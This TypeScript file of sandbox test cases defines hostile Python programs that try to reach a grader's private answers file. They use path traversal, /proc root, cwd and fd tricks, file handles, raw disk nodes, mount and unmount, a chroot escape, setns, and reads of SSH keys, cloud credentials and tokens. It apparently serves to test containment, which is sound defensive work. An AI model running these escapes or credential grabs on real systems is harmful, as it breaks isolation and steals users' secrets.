import type { HostileProgram } from "../types.ts";

const family = "answers" as const;
const expects = { outcomes: ["ok"] } as const;
const secret = { loot: "CANARY-answers" } as const;

export const answersPrograms: readonly HostileProgram[] = [
  {
    id: "answers-relative-path",
    family,
    title: "derives the path of the answers from the path of the public data",
    expects,
    control: secret,
    program: String.raw`
for base in ("/data", S["dataDir"], ".", "/code", "/workspace", os.path.dirname(os.path.abspath(__file__))):
    for up in ("..", "../..", "../../..", "../../../.."):
        grab(os.path.join(base, up, "private/answers.csv"))
        grab(base + "/" + up + S["answers"])
`,
  },
  {
    id: "answers-absolute-path",
    family,
    title: "opens the answers by the host path that somebody let slip",
    expects,
    control: secret,
    program: String.raw`
grab(S["answers"])
grab("/" + S["answers"])
grab("/data/../../../../../.." + S["answers"])
grab(S["answers"].replace("/private/", "/public/../private/"))
`,
  },
  {
    id: "answers-proc-root",
    family,
    title: "goes through /proc/PID/root of every process it can see",
    expects,
    control: secret,
    program: String.raw`
for pid in ["self", "thread-self", "1"] + other_pids():
    grab("/proc/%s/root%s" % (pid, S["answers"]))
`,
  },
  {
    id: "answers-proc-cwd",
    family,
    title: "goes through the working folder of every process it can see",
    expects,
    control: secret,
    program: String.raw`
for pid in ["self", "1"] + other_pids():
    for tail in ("private/answers.csv", "../private/answers.csv", "answers.csv", "../../private/answers.csv"):
        grab("/proc/%s/cwd/%s" % (pid, tail))
`,
  },
  {
    id: "answers-proc-fd",
    family,
    title: "re-opens the files that other processes hold open",
    expects,
    control: secret,
    program: String.raw`
for pid in other_pids():
    fds = attempt("list fds of %d" % pid, lambda: os.listdir("/proc/%d/fd" % pid)) or []
    for fd in fds:
        link = "/proc/%d/fd/%s" % (pid, fd)
        if attempt("look at " + link, lambda: stat.S_ISREG(os.stat(link).st_mode)):
            grab(link)
`,
  },
  {
    id: "answers-tree-walk",
    family,
    title: "walks the places where tests, caches and homes live",
    expects,
    control: secret,
    program: String.raw`
deadline = time.monotonic() + 4
seen = 0
parents = [S["answers"].rsplit("/", n)[0] or "/" for n in (1, 2, 3)]
for top in parents + [S["home"], "/workspace", "/data", "/code", "/tmp", "/var/tmp", "/srv", "/mnt", "/home", "/root"]:
    for folder, names, files in os.walk(top):
        seen += len(files)
        for name in files:
            if "answers" in name or "secret" in name:
                grab(os.path.join(folder, name))
        if time.monotonic() > deadline or seen > 200000:
            break
say("TRIED walk over %d files" % seen)
`,
  },
  {
    id: "answers-file-handle",
    family,
    title: "opens the answers by their file handle, past every mount",
    expects,
    control: secret,
    program: String.raw`
raw = bytes.fromhex(S["handle"]["hex"])
handle = ctypes.create_string_buffer(struct.pack("<Ii", len(raw), S["handle"]["type"]) + raw)
for anchor in ("/data", "/workspace", "/code", "/", "/tmp", S["dataDir"], "/etc/hosts", "/etc/resolv.conf", "/usr"):
    def action():
        mount = os.open(anchor, os.O_RDONLY)
        return syscall(304, mount, handle, os.O_RDONLY)
    fd = attempt("handle below " + anchor, action)
    if fd is not None:
        seize("handle", os.read(fd, 65536))
`,
  },
  {
    id: "answers-raw-disk",
    family,
    title: "makes a device node of the disk that holds the answers and reads it raw",
    expects,
    control: { loot: "raw disk" },
    program: String.raw`
major, minor = S["device"]
for folder in (".", "/tmp", "/dev", "/dev/shm"):
    for kind, numbers in ((stat.S_IFBLK, (major, minor)), (stat.S_IFCHR, (1, 1))):
        path = os.path.join(folder, "node%d%d" % numbers)
        def action():
            os.mknod(path, kind | 0o666, os.makedev(*numbers))
            loot("raw disk node made: " + path)
            return len(os.read(os.open(path, os.O_RDONLY), 4096))
        attempt("device " + path, action)
for path in glob.glob("/dev/[sv]d*") + glob.glob("/dev/nvme*") + ["/dev/mem", "/dev/kmem", "/dev/port", "/dev/loop0"]:
    if attempt("open " + path, lambda: os.read(os.open(path, os.O_RDONLY), 4096)):
        loot("raw disk by " + path)
`,
  },
  {
    id: "answers-mount",
    family,
    title: "mounts something of its own, by the old calls and the new",
    expects,
    control: { alone: true, loot: "mount" },
    program: String.raw`
os.makedirs("/tmp/m", exist_ok=True)
def mount(source, target, kind, flags):
    if LIBC.mount(source, target, kind, ctypes.c_ulong(flags), None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True
BIND, REMOUNT, REC = 4096, 32, 16384
take("bind mount", lambda: mount(b"/", b"/tmp/m", None, BIND | REC))
take("tmpfs mount", lambda: mount(b"t", b"/tmp/m", b"tmpfs", 0))
take("proc mount", lambda: mount(b"p", b"/tmp/m", b"proc", 0))
take("remount /", lambda: mount(None, b"/", None, REMOUNT | BIND))
take("remount data mount", lambda: mount(None, b"/data", None, REMOUNT | BIND))
take_call("fsopen mount", 430, b"tmpfs", 0)
`,
  },
  {
    id: "answers-unmount",
    family,
    title: "takes mounts away to see what lies below them",
    expects,
    control: { alone: true, loot: "unmount" },
    program: String.raw`
for target in (b"/dev/shm", b"/data", b"/code", b"/workspace", b"/tmp", b"/proc/sys", b"/proc/sys/kernel/core_pattern"):
    def action():
        if LIBC.umount2(target, 2) != 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return True
    take("unmount " + target.decode(), action)
`,
  },
  {
    id: "answers-chroot-escape",
    family,
    title: "escapes by chroot below an open folder",
    expects,
    control: { loot: "chroot" },
    program: String.raw`
def escape():
    os.makedirs("jail", exist_ok=True)
    anchor = os.open("/", os.O_RDONLY)
    os.chroot("jail")
    loot("chroot allowed")
    os.fchdir(anchor)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    grab(S["answers"])
in_child(escape)
def pivot():
    syscall(155, b".", b".")
    loot("pivot_root (like chroot) allowed")
in_child(pivot)
`,
  },
  {
    id: "answers-join-namespace",
    family,
    title: "joins the namespaces of other processes",
    expects,
    control: { alone: true, loot: "setns" },
    program: String.raw`
def join():
    for pid in ["self", 1, os.getppid()] + other_pids()[:20]:
        for kind in ("mnt", "pid", "net", "user", "ipc", "uts"):
            path = "/proc/%s/ns/%s" % (pid, kind)
            take("setns " + path, lambda: syscall(308, os.open(path, os.O_RDONLY), 0))
in_child(join)
`,
  },
  {
    id: "answers-home-and-repository",
    family,
    title: "looks for keys in homes and for the grader's own source",
    expects,
    control: { loot: "CANARY-home" },
    program: String.raw`
import pwd
homes = {os.path.expanduser("~"), S["home"], "/root"} | {entry.pw_dir for entry in pwd.getpwall()}
for home in sorted(homes):
    for tail in (".kaggle/kaggle.json", ".netrc", ".env", ".ssh/id_rsa", ".aws/credentials", ".npmrc"):
        grab(os.path.join(home, tail))
for path in ("package.json", "packages/sandbox/package.json", ".git/HEAD"):
    if os.path.exists(os.path.join(S["repository"], path)):
        loot("repository file " + path)
`,
  },
];
